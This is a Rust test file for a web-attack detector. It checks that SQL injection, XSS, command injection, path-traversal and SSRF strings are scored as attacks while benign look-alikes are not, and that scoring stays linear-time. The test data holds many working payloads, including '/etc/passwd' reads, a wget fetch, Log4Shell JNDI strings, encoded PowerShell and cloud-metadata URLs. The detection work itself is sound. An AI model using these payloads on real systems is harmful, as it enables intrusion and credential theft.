use std::time::{Duration, Instant};

use postern_config::WebAttack::{CommandInjection, PathTraversal, SqlInjection, Ssrf, Xss};

use proptest::strategy::Strategy as _;

use super::*;

#[test]
fn attacks_are_told_from_what_looks_like_them() {
    for (attack, text, found) in [
        (SqlInjection, "1' OR '1'='1", true),
        (SqlInjection, "1 UNION SELECT password FROM users", true),
        (SqlInjection, "admin'--", true),
        (SqlInjection, "1%27%20or%201%3d1--", true),
        (SqlInjection, "1%2527%2520or%25201%253d1--", true),
        (SqlInjection, "O'Brien", false),
        (SqlInjection, "Select the best option from the list or leave it to us", false),
        (SqlInjection, "it's 5 o'clock", false),
        (SqlInjection, "1+and+1=1", true),
        (SqlInjection, "1+or+1+%3D+1", true),
        (SqlInjection, " ORDER BY 1,SLEEP(5),BENCHMARK(1000000,MD5('A')),4#", true),
        (SqlInjection, " or 'x'='y", true),
        (SqlInjection, ") or sleep(5)#", true),
        (SqlInjection, "x'/**/or/**/username/**/like/**/'a", true),
        (SqlInjection, "1;select pg_sleep(5)--", true),
        (SqlInjection, "-1/*!50000union*/(select(1))", true),
        (SqlInjection, "'; exec xp_cmdshell 'dir'--", true),
        (SqlInjection, "u_id[$ne]", true),
        (SqlInjection, "80% acrylic and 20% wool", false),
        (SqlInjection, "l'union européenne", false),
        (SqlInjection, "dogs' and cats' food", false),
        (SqlInjection, "application/*+json", false),
        (SqlInjection, "text/html,application/xhtml+xml,*/*;q=0.8", false),
        (SqlInjection, "Is 1=1 true?", false),
        (Xss, "<script>alert(1)</script>", true),
        (Xss, "<img src=x onerror=alert(1)>", true),
        (Xss, "\"><svg/onload=alert(1)>", true),
        (Xss, "<a href=\"javascript:alert(1)\">x</a>", true),
        (Xss, "<hr tabindex=1 onbeforedeactivate=alert(1)>", true),
        (Xss, "\" onfocus=alert(1) autofocus x=\"", true),
        (Xss, "';alert(1)//", true),
        (Xss, "&lt;script&gt;alert(1)&lt;/script&gt;", true),
        (Xss, "\\u003cimg src=x onerror=alert(1)\\u003e", true),
        (Xss, "jav&#x09;ascript:alert(1)", true),
        (Xss, "{{constructor.constructor('alert(1)')()}}", true),
        (Xss, "＜script＞alert(1)＜/script＞", true),
        (Xss, "<scr\0ipt>alert(1)</script>", true),
        (Xss, "JavaScript: arrays (part 1)", false),
        (Xss, "Translate this to JavaScript:\n\n```\nprint(1)\n```", false),
        (Xss, "{{ user.name }} &amp; co", false),
        (Xss, "a < b and b > c", false),
        (Xss, "<b>bold</b>", false),
        (Xss, "see <link>the docs</link>", false),
        (CommandInjection, "x; cat /etc/passwd", true),
        (CommandInjection, "$(id)", true),
        (CommandInjection, "127.0.0.1 && whoami", true),
        (CommandInjection, "`wget http://x/y`", true),
        (CommandInjection, "x;${IFS}ls", true),
        (CommandInjection, "() { :;}; echo vulnerable", true),
        (CommandInjection, "${jndi:ldap://x/a}", true),
        (CommandInjection, ";c'a't${IFS}/e\"\"tc/passwd", true),
        (CommandInjection, "x;w^h^o$@ami", true),
        (CommandInjection, "& FOR %%a IN (a,b) DO echo %%a", true),
        (CommandInjection, "|powershell -enc SQBFAFgA", true),
        (CommandInjection, "${${lower:j}ndi:ldap://x/a}", true),
        (CommandInjection, "{{7*7}}", true),
        (CommandInjection, "/???/??t /etc/pas[s]wd", true),
        (CommandInjection, "compress;q=0.5, gzip;q=1.0", false),
        (CommandInjection, "OpenAI/Python 1.30.1", false),
        (CommandInjection, "run `npm install`", false),
        (CommandInjection, "a hero; more than", false),
        (CommandInjection, "a ${color:red} hat for {{name}}, {id}", false),
        (CommandInjection, "python main.py", false),
        (CommandInjection, "salt & pepper; cats and dogs", false),
        (CommandInjection, "Explain what this line of shell does for me: `ls -la /tmp`", false),
        (PathTraversal, "../../../etc/passwd", true),
        (PathTraversal, "..%2f..%2fetc%2fpasswd", true),
        (PathTraversal, "..%c0%af..%c0%afwinnt", true),
        (PathTraversal, "....//....//etc/hosts", true),
        (PathTraversal, "/etc/passwd", true),
        (PathTraversal, "php://filter/convert.base64-encode/resource=index", true),
        (PathTraversal, "%uff0e%uff0e%u2215etc", true),
        (PathTraversal, "..;/manager/html", true),
        (PathTraversal, "images/cat.png", false),
        (PathTraversal, "wait... what", false),
        (PathTraversal, "1.../2", false),
        (Ssrf, "http://169.254.169.254/latest/meta-data/", true),
        (Ssrf, "http://2130706433/", true),
        (Ssrf, "http://0x7f.1/", true),
        (Ssrf, "http://0177.0.0.1:8080/", true),
        (Ssrf, "http://[::ffff:10.0.0.1]/", true),
        (Ssrf, "http://[::1]:22", true),
        (Ssrf, "http://user@localhost/", true),
        (Ssrf, "http://127.0.0.1@example.com/", true),
        (Ssrf, "//metadata.google.internal/computeMetadata", true),
        (Ssrf, "http://１２７.０.０.１/", true),
        (Ssrf, "gopher://example.com:70/x", true),
        (Ssrf, "http://10.0.0.1.nip.io/", true),
        (Ssrf, "file:///etc/hostname", true),
        (Ssrf, "jar:http://example.com/a.zip!/b", true),
        (Ssrf, "http:/127.0.0.1/", true),
        (Ssrf, "https://example.com/a?b=c", false),
        (Ssrf, "http://8.8.8.8/", false),
        (Ssrf, "http://example.com:127/", false),
    ] {
        let scored = score(attack, text);
        assert_eq!(scored >= 80, found, "{attack:?} {text}: {scored}");
    }
}

/// What attacks are made of, and what readers of them stumble over.
const PIECES: &[&str] = &[
    "'",
    "\"",
    "`",
    "/*",
    "*/",
    "<",
    "<a ",
    "=",
    "-",
    "--",
    "(",
    ")",
    "' or ",
    "\\",
    "%25",
    "%2525",
    "%",
    "%00",
    "../",
    "..;",
    "//",
    "http://a@",
    "; ",
    "$(",
    "${",
    "{{",
    "|cat ",
    "&#x",
    "&lt;",
    "<!--",
    "-->",
    "union select ",
    "or 1=1",
    "sleep(",
    "@",
    "[",
    "]",
    "0x",
    "1.",
    "1+",
    "1,",
    "a.",
    "a`",
    "a=",
    "\u{ff11}",
    "a b ",
    "<a on",
    "<a\0",
    "\0",
    "$a$",
    "q'(",
    "b'0",
    "x'a",
    "''",
    "#",
    "||",
    "&&",
    "/*!",
    "${jndi:",
    "${${lower:j}",
    "<%",
    "\n",
    "%u0027",
    "\\u003c",
    "é",
    "中",
    "\u{a0}",
    "e.",
    "<?",
    "!",
];

fn took(attack: WebAttack, text: &str) -> Duration {
    let began = Instant::now();
    score(attack, text);
    began.elapsed()
}

#[test]
fn attack_45_what_is_made_to_cost_takes_no_longer_than_its_length() {
    for attack in WebAttack::ALL {
        for piece in PIECES {
            let cost = |size: usize| took(attack, &piece.repeat(size / piece.len()));
            // Eight times the length; the square would be 64 times the cost. A loaded machine makes some rounds long, and
            // none short: what holds for the best of thirty holds.
            let (mut short, mut long) = (Duration::MAX, Duration::MAX);
            let is_linear = (0..10).any(|_| {
                for _ in 0..3 {
                    (short, long) = (short.min(cost(2_000)), long.min(cost(16_000)));
                }
                long < short * 30 + Duration::from_millis(4)
            });
            assert!(is_linear, "{attack:?} {piece:?}: {short:?}, {long:?}");
        }
    }
}

#[test]
fn attack_45_long_values_of_what_was_once_read_again_and_again_are_read_once() {
    // Each of these took the square of its length: names of many parts, comments without an end, NULs in names.
    for (attack, piece) in [
        (SqlInjection, "a."),
        (SqlInjection, "a`"),
        (SqlInjection, "/*&&\n"),
        (SqlInjection, "/*!"),
        (Xss, "<on\0\0\0\0"),
        (Xss, "&#0"),
        (CommandInjection, "${jndi:"),
        (PathTraversal, "%25"),
        (Ssrf, "http://a@"),
    ] {
        let cost = |size: usize| took(attack, &piece.repeat(size / piece.len()));
        let (mut short, mut long) = (Duration::MAX, Duration::MAX);
        let is_linear = (0..10).any(|_| {
            (short, long) = (short.min(cost(1 << 14)), long.min(cost(1 << 17)));
            long < short * 24 + Duration::from_millis(10)
        });
        assert!(is_linear, "{attack:?} {piece:?}: {short:?}, {long:?}");
    }
}

#[test]
fn an_attack_is_found_however_much_stands_around_it() {
    let padding = "x".repeat(1 << 18);
    for (attack, text) in [
        (SqlInjection, "' or 1=1 or '"),
        (SqlInjection, " union all select null,version() "),
        (Xss, "<img src=x onerror=alert(1)>"),
        (CommandInjection, ";cat /etc/passwd;"),
        (PathTraversal, "/../../../etc/passwd"),
        (Ssrf, " http://169.254.169.254/latest/ "),
    ] {
        assert_eq!(score(attack, &format!("{padding}{text}{padding}")), SURE, "{attack:?} {text}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 2_000, ..Default::default() })]

    #[test]
    fn no_value_stops_a_detector(
        parts in proptest::collection::vec(
            proptest::prop_oneof![
                proptest::sample::select(PIECES).prop_map(str::to_owned),
                "\\PC{0,4}",
                "[\\x00-\\x7f]{0,6}",
                "(select|from|like|in|not|user|if|collate utf8_bin|\\{``|\\{a|div|q'\\[|n'|e'|u&'|\\$\\$|0b|1e|\\\\N|sp_password| )",
                "(<svg|<xsl|on|style|href|javascript|&#x|&#|[;>]|<!\\[CDATA\\[|\\]\\]>|<!doctype|[-]->|/>|[a-f0-9]{1,9};)",
            ],
            0..24,
        )
    ) {
        let text: String = parts.concat();
        for attack in WebAttack::ALL {
            proptest::prop_assert!(score(attack, &text) <= 100);
        }
        // Those that read bytes are handed texts alone, but would have to stand any.
        libinjectionrs::detect_sqli(text.as_bytes());
        libinjectionrs::detect_xss(text.as_bytes());
    }
}
